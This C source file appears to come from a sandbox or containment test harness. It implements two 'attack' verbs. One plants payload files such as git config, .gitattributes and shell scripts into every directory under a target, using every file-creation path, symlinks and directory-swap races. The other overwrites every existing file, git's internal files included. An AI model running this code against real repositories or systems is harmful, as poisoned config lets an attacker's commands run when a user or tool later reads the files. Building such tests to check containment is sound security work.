/* Writes everything below one directory that a program outside might obey later, by every call that could. */
#include "attack.h"
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { NAMES = 256, PLACES = 4096, LENGTH = 4096 };

static const char *payloads;            /* one file for each kind of reader: git, shell, data, attributes */
static char *names[NAMES];              /* names to write in each directory, relative to it */
static char *places[PLACES];            /* the directories, and the files that are there already */
static int name_count, place_count;

/* The payload that the reader of a file of this name obeys. */
static const char *payload_for(const char *path)
{
    static char payload[LENGTH];
    const char *name = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
    const char *kind = "shell";
    if (strcmp(name, "config") == 0 || strcmp(name, ".gitconfig") == 0 || strcmp(name, "config.worktree") == 0)
        kind = "git";
    else if (strcmp(name, "attributes") == 0 || strcmp(name, ".gitattributes") == 0)
        kind = "attributes";
    else if (strstr(name, ".json") || strstr(name, ".toml") || strstr(name, ".yml"))
        kind = "data";
    snprintf(payload, sizeof payload, "%s/%s", payloads, kind);
    return payload;
}

static void fill(int fd, const char *path)
{
    char text[LENGTH];
    int payload = open(payload_for(path), O_RDONLY);
    ssize_t length = payload < 0 ? 0 : read(payload, text, sizeof text);
    if (fd >= 0 && length > 0)
        (void)!write(fd, text, (size_t)length);
    close(payload);
    close(fd);
}

static void make_parents(const char *path)
{
    char part[LENGTH];
    snprintf(part, sizeof part, "%s", path);
    for (char *slash = strchr(part + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
        *slash = 0;
        mkdir(part, 0755);
        *slash = '/';
    }
}

/* Writes one file in each way in which a file can be created or changed. */
static void attack(const char *path, int with_links)
{
    char other[LENGTH];
    snprintf(other, sizeof other, "%.4000s.new", path);
    make_parents(path);
    fill(open(path, O_WRONLY | O_APPEND), path);
    fill(open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755), path);
    chmod(path, 0755);
    fill(open(other, O_WRONLY | O_CREAT | O_TRUNC, 0755), path);
    rename(other, path);
    link(other, path);
    unlink(other);
    if (!with_links)
        return;
    if (symlink(payload_for(path), other) == 0)
        rename(other, path);
    unlink(other);
    if (access(path, F_OK) != 0 && symlink(payload_for(path), path) != 0)
        link(payload_for(path), path);
}

/* Writes the same names into a directory beside, which then takes the place of the one that holds them. */
static void attack_by_directory(const char *top, const char *name)
{
    char beside[LENGTH], path[LENGTH], target[LENGTH];
    const char *slash = strchr(name, '/');
    if (!slash)
        return;
    snprintf(beside, sizeof beside, "%.2000s/beside", top);
    snprintf(path, sizeof path, "%.2000s%s", beside, slash);
    snprintf(target, sizeof target, "%.2000s/%.*s", top, (int)(slash - name), name);
    make_parents(path);
    fill(open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755), path);
    chmod(path, 0755);
    rename(beside, target);
    symlink("beside", target);
    rename(target, path);
    rename(beside, target);
}

static int note(const char *path, const struct stat *data, int type, struct FTW *walk)
{
    (void)data;
    int is_near = type != FTW_D || walk->level <= 1;
    if (is_near && place_count < PLACES && (type == FTW_D || type == FTW_F || type == FTW_SL)) {
        places[place_count] = malloc(strlen(path) + 2);
        sprintf(places[place_count++], "%c%s", type == FTW_D ? 'd' : 'f', path);
    }
    return 0;
}

static int read_names(const char *file)
{
    char text[LENGTH];
    FILE *list = fopen(file, "r");
    if (!list)
        return FAILED;
    while (name_count < NAMES && fgets(text, sizeof text, list)) {
        text[strcspn(text, "\n")] = 0;
        names[name_count++] = strdup(text);
    }
    fclose(list);
    return DONE;
}

/* leave_behind PAYLOADS NAMES TOP: writes the names that the file NAMES lists, in TOP and in the directories in it. */
static int v_leave_behind(char **a)
{
    char path[LENGTH];
    payloads = a[0];
    if (read_names(a[1]) != DONE)
        return FAILED;
    nftw(a[2], note, 32, FTW_PHYS);
    for (int p = 0; p < place_count; p++) {
        if (*places[p] != 'd')
            continue;
        for (int n = 0; n < name_count; n++) {
            snprintf(path, sizeof path, "%.2000s/%.2000s", places[p] + 1, names[n]);
            attack(path, 1);
            attack_by_directory(places[p] + 1, names[n]);
        }
    }
    return DONE;
}

/* overwrite_all PAYLOADS TOP: overwrites every existing file, even those that git keeps for itself. */
static int v_overwrite_all(char **a)
{
    payloads = a[0];
    nftw(a[1], note, 32, FTW_PHYS);
    for (int p = 0; p < place_count; p++)
        if (*places[p] == 'f' && strcmp(places[p] + 1, self) != 0)
            attack(places[p] + 1, 0);
    return DONE;
}

const struct verb left_behind_verbs[] = {
    {"leave_behind", 3, v_leave_behind},
    {"overwrite_all", 2, v_overwrite_all},
    {0},
};
